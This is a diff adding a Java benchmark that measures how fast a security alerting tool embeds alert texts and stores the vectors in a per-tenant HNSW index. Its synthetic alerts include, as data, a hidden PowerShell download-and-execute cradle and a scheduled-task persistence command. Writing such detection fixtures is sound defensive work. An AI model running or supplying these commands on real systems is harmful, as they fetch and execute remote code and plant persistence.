@@ -1,0 +1,113 @@
+package dev.vigil.analyst.similar;
+
+import dev.vigil.detect.MatchedField;
+import dev.vigil.store.AlertVectorStore;
+import dev.vigil.tenancy.TenantId;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.Future;
+import java.util.function.Consumer;
+
+/**
+ * Similar-alert embedding throughput (run with {@code -Pbench}; see docs/performance.md): alerts embedded per second
+ * with the shipped model, one at a time (as the appliance does) and in padded batches, on 1 and 2 threads, against a
+ * baseline measured in the same run on the same alert texts (tokenisation alone), plus storing the vectors in the
+ * per-tenant HNSW index.
+ */
+class EmbeddingBenchmark {
+
+    @TempDir
+    Path tmp;
+
+    /** Alert texts by the {@link AlertText} recipe, of the shapes the factory rules raise. */
+    static List<String> alertTexts(int n) {
+        String[][] kinds = {
+                {"SSH brute force against %s", "vigil-ssh-brute-force", "attack.credential_access,attack.t1110", "source.ip=203.0.113.%d"},
+                {"Suspicious PowerShell download cradle on %s", "3b6ab547-8ec2-4991-b9d2-2b06702a48d7", "attack.execution,attack.t1059.001",
+                        "CommandLine=powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.%d/a.ps1')"},
+                {"LSASS memory accessed by an unusual process on %s", "vigil-lsass-access", "attack.credential_access,attack.t1003.001",
+                        "SourceImage=C:\\Users\\Public\\tool%d.exe"},
+                {"Scheduled task created for persistence on %s", "92626ddd-662c-49e3-ac59-f6535f12d189", "attack.persistence,attack.t1053.005",
+                        "CommandLine=schtasks /create /tn Updater%d /tr C:\\ProgramData\\u.exe /sc onlogon"},
+                {"Console login without MFA for %s", "vigil-cloud-console-no-mfa", "attack.initial_access,attack.t1078.004",
+                        "sourceIPAddress=198.51.100.%d"}};
+        List<String> texts = new ArrayList<>(n);
+        for (int i = 0; i < n; i++) {
+            String[] k = kinds[i % kinds.length];
+            String[] matched = String.format(k[3], i % 250).split("=", 2);
+            texts.add(AlertText.of(String.format(k[0], "host-" + i), k[1], "high", List.of(k[2].split(",")),
+                    List.of(new MatchedField("host.name", "host-" + i), new MatchedField(matched[0], matched[1]))));
+        }
+        return texts;
+    }
+
+    @Test
+    void measure() throws Exception {
+        int n = Integer.getInteger("bench.alerts", 600);
+        List<String> texts = alertTexts(n);
+        StringBuilder report = new StringBuilder("| measurement | alerts | seconds | alerts/s | ratio to (a) |\n|---|---:|---:|---:|---:|\n");
+        try (AlertEmbedder embedder = AlertEmbedder.miniLm(1)) {
+            WordPieceTokenizer tokenizer = embedder.tokenizer();
+            double tokens = texts.stream().mapToInt(t -> tokenizer.encode(t).length).average().orElse(0);
+            embedder.embedAll(texts.subList(0, Math.min(50, n))); // warm-up
+            double a = time(texts, 1, chunk -> chunk.forEach(tokenizer::encode));
+            row(report, "(a) tokenisation alone, 1 thread (baseline)", n, a, a);
+            row(report, "embed one at a time, 1 thread", n, time(texts, 1, embedder::embedAll), a);
+            row(report, "embed one at a time, 2 threads (the appliance's mode, shared session)", n, time(texts, 2, embedder::embedAll), a);
+            row(report, "embed in padded batches of 32, 2 threads (reference only)", n, time(texts, 2, chunk -> {
+                for (int i = 0; i < chunk.size(); i += 32) {
+                    embedder.embedBatch(chunk.subList(i, Math.min(chunk.size(), i + 32)));
+                }
+            }), a);
+            List<float[]> vectors = embedder.embedAll(texts);
+            Map<String, float[]> byId = new LinkedHashMap<>();
+            for (int i = 0; i < n; i++) {
+                byId.put("A-" + i, vectors.get(i));
+            }
+            try (AlertVectorStore store = new AlertVectorStore(tmp.resolve("vectors"), MiniLm.DIMENSIONS)) {
+                long start = System.nanoTime();
+                store.putAll(TenantId.of("bench"), byId);
+                row(report, "store the vectors in the tenant's HNSW index (one commit)", n, (System.nanoTime() - start) / 1e9, a);
+            }
+            report.append(String.format("%nMean tokens per alert text: %.1f ([CLS] and [SEP] included; at most %d).%n",
+                    tokens, tokenizer.maxLength()));
+        }
+        Path out = Path.of(System.getProperty("bench.out", "target/bench/embedding.md"));
+        Files.createDirectories(out.toAbsolutePath().getParent());
+        Files.writeString(out, report);
+        System.out.println(report);
+    }
+
+    /** Seconds to run {@code work} over the texts split in {@code threads} equal parts, one per thread. */
+    private static double time(List<String> texts, int threads, Consumer<List<String>> work) throws Exception {
+        ExecutorService pool = Executors.newFixedThreadPool(threads);
+        try {
+            int per = (texts.size() + threads - 1) / threads;
+            long start = System.nanoTime();
+            List<Future<?>> parts = new ArrayList<>();
+            for (int t = 0; t < threads; t++) {
+                List<String> chunk = texts.subList(Math.min(texts.size(), t * per), Math.min(texts.size(), (t + 1) * per));
+                parts.add(pool.submit(() -> work.accept(chunk)));
+            }
+            for (Future<?> f : parts) {
+                f.get();
+            }
+            return (System.nanoTime() - start) / 1e9;
+        } finally {
+            pool.shutdown();
+        }
+    }
+
+    private static void row(StringBuilder report, String name, int n, double seconds, double baseline) {
+        report.append(String.format("| %s | %,d | %.2f | %,.0f | %.3f |%n", name, n, seconds, n / seconds, baseline / seconds));
+    }
+}
